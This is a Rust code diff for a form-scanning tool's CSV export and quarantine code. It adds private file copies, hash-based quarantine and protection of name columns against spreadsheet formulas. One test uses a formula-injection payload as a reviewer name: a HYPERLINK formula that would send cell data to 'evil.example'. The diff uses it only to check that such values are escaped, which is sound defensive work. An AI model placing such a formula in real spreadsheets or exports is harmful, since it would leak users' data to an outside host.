@@ -222,6 +222,24 @@ pub fn private_file(path: &Path, bytes: &[u8]) -> Result<(), EmitError> {
     f.sync_all().map_err(io_err(path))
 }
 
+/// Copies a regular file (never through a link) to an owner-only file,
+/// in pieces, and flushes it to disk.
+fn private_copy(src: &Path, to: &Path) -> Result<(), EmitError> {
+    use std::os::unix::fs::OpenOptionsExt;
+    let mut from = crate::intake::open_regular(src).map_err(io_err(src))?;
+    let mut f = std::fs::OpenOptions::new()
+        .write(true)
+        .create(true)
+        .truncate(true)
+        .mode(0o600)
+        .open(to)
+        .map_err(io_err(to))?;
+    f.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(0o600))
+        .map_err(io_err(to))?;
+    std::io::copy(&mut from, &mut f).map_err(io_err(to))?;
+    f.sync_all().map_err(io_err(to))
+}
+
 pub fn write_batch(
     out_dir: &Path,
     batch_id: &str,
@@ -394,7 +412,10 @@ pub fn form_csv(
     for r in rows {
         let mut line = Vec::with_capacity(t.output.columns.len());
         for c in &t.output.columns {
-            let v = column_value(t, r, &c.value, batch_id);
+            let mut v = column_value(t, r, &c.value, batch_id);
+            if is_name_column(&c.value) {
+                v = name_cell(v, encoding);
+            }
             if encoding == OutputEncoding::Cp932 {
                 check_cp932(&v).map_err(|character| EmitError::Unencodable {
                     source_file: r.source.clone(),
@@ -424,6 +445,23 @@ pub fn form_csv(
             encoding_rs::SHIFT_JIS.encode(&text).0.into_owned()
         }
     })
+}
+
+/// Columns that carry names rather than values read from the form: a file
+/// or folder name, the reviewer's name. Anyone could have typed them.
+fn is_name_column(value: &str) -> bool {
+    matches!(value, "@source" | "@branch" | "@reviewer")
+}
+
+/// A name as an import CSV can hold it: in the output encoding (the exact
+/// name stays in `records.jsonl`), and never read by a spreadsheet as a
+/// formula.
+fn name_cell(v: String, encoding: OutputEncoding) -> String {
+    let v = match encoding {
+        OutputEncoding::Cp932 => crate::names::cp932_safe(&v).into_owned(),
+        OutputEncoding::Utf8 => v,
+    };
+    excel_safe(v)
 }
 
 /// `Err(c)` with the first character CP932 cannot hold.
@@ -822,9 +860,13 @@ pub fn quarantine(
 ) -> Result<QuarantineEntry, EmitError> {
     let dir = out_dir.join("quarantine");
     private_dir(&dir)?;
-    let flat = rel.replace('/', "__");
-    let (bytes, reason_text) = match std::fs::read(src) {
-        Ok(b) => (Some(b), format!("{rel}\n{reason}\n")),
+    // Room for the longest suffix (`.reason.txt`) and a numbered prefix.
+    let flat = crate::names::fit(&rel.replace('/', "__"), crate::names::NAME_MAX - 24);
+    // Never through a link: what is copied is the file in the inbox
+    // itself. Hashed and copied in pieces, so a file of any size costs
+    // little memory.
+    let (sha, reason_text) = match crate::intake::sha256_file(src) {
+        Ok(sha) => (Some(sha), format!("{rel}\n{reason}\n")),
         Err(e) => (
             None,
             format!("{rel}\n{reason}\nnot copied: the file could not be read ({e})\n"),
@@ -834,26 +876,37 @@ pub fn quarantine(
     for n in 2.. {
         let target = dir.join(&name);
         let taken = target.exists() || dir.join(format!("{name}.reason.txt")).exists();
-        let same = bytes
-            .as_ref()
-            .is_some_and(|b| std::fs::read(&target).is_ok_and(|old| &old == b));
+        let same = sha.as_ref().is_some_and(|sha| {
+            target.is_file() && crate::intake::sha256_file(&target).is_ok_and(|old| &old == sha)
+        });
         if !taken || same {
             break;
         }
         name = format!("{n}__{flat}");
     }
-    if let Some(b) = &bytes {
-        private_file(&dir.join(&name), b)?;
+    let copy = dir.join(&name);
+    if sha.is_some() {
+        if let Err(e) = private_copy(src, &copy) {
+            let _ = std::fs::remove_file(&copy);
+            return Err(e);
+        }
     }
-    private_file(
+    // A copy without its reason is an orphan no one can act on.
+    if let Err(e) = private_file(
         &dir.join(format!("{name}.reason.txt")),
         reason_text.as_bytes(),
-    )?;
+    ) {
+        let _ = std::fs::remove_file(dir.join(format!("{name}.reason.txt")));
+        if sha.is_some() {
+            let _ = std::fs::remove_file(&copy);
+        }
+        return Err(e);
+    }
     Ok(QuarantineEntry {
         source: rel.into(),
         reason: reason.into(),
         stored_as: format!("quarantine/{name}"),
-        copied: bytes.is_some(),
+        copied: sha.is_some(),
     })
 }
 
@@ -932,10 +985,11 @@ columns = [{ header = "宛名番号", value = "atena_no" }, { header = "回答",
     #[test]
     fn an_unencodable_character_names_the_record() {
         let t = template();
-        let r = record("honcho/𠮷.png");
+        let mut r = record("honcho/a.png");
+        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00𠮷2");
         let e = form_csv(&t, &[&r], "b1", None).unwrap_err().to_string();
         assert!(
-            e.contains("honcho/𠮷.png") && e.contains("元ファイル") && e.contains('𠮷'),
+            e.contains("honcho/a.png") && e.contains("宛名番号") && e.contains('𠮷'),
             "{e}"
         );
         assert!(form_csv(&t, &[&r], "b1", Some(OutputEncoding::Utf8)).is_ok());
@@ -1025,29 +1079,62 @@ columns = [{ header = "宛名番号", value = "atena_no" }, { header = "回答",
         std::fs::metadata(p).unwrap().permissions().mode() & 0o777
     }
 
+    /// Issue 15, item 3: a name CP932 cannot hold (an emoji, or a byte
+    /// that was not UTF-8, read as U+FFFD) used to fail the whole batch; it
+    /// is written with a stand-in, while a value read from the form that
+    /// CP932 cannot hold still stops the CSV.
     #[test]
-    fn an_emoji_is_named_not_replaced() {
+    fn a_name_cp932_lacks_gets_a_stand_in_and_a_read_value_still_fails() {
         let t = template();
-        let mut r = record("honcho/a.png");
+        let mut r = record("honcho/scan😀\u{FFFD}.png");
         r.branch = "本町😀".into();
         let mut t2 = t.clone();
         t2.output.columns.push(crate::template::Column {
             header: "受付".into(),
             value: "@branch".into(),
         });
+        let bytes = form_csv(&t2, &[&r], "b1", None).unwrap();
+        let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&bytes);
+        assert!(!bad);
+        assert!(text.ends_with(",honcho/scan〓〓.png,本町〓\r\n"), "{text}");
+        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00😀2");
         match form_csv(&t2, &[&r], "b1", None) {
             Err(EmitError::Unencodable {
-                source_file,
                 page,
                 column,
                 character,
-            }) => {
-                assert_eq!(
-                    (source_file.as_str(), page, column.as_str(), character),
-                    ("honcho/a.png", 1, "受付", '😀')
+                ..
+            }) => assert_eq!((page, column.as_str(), character), (1, "宛名番号", '😀')),
+            other => panic!("{other:?}"),
+        }
+    }
+
+    /// Issue 15, item 14: a reviewer's name or a file name that a
+    /// spreadsheet would run as a formula went raw into the import CSV.
+    #[test]
+    fn names_in_the_import_csv_are_never_formulas() {
+        let mut t = template();
+        t.output.columns.push(crate::template::Column {
+            header: "確認者".into(),
+            value: "@reviewer".into(),
+        });
+        for encoding in [OutputEncoding::Cp932, OutputEncoding::Utf8] {
+            let mut r = record("@SUM(1+1).png");
+            r.reviewer = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")".into());
+            let bytes = form_csv(&t, &[&r], "b1", Some(encoding)).unwrap();
+            let text = encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned();
+            let row = text.lines().nth(1).unwrap();
+            let cells: Vec<&str> = row.split(',').collect();
+            assert_eq!(cells[3], "'@SUM(1+1).png", "{row}");
+            assert!(cells[4].starts_with("\"'=HYPERLINK("), "{row}");
+            for cell in cells {
+                assert!(
+                    !cell
+                        .trim_start_matches('"')
+                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{row}"
                 );
             }
-            other => panic!("{other:?}"),
         }
     }
 
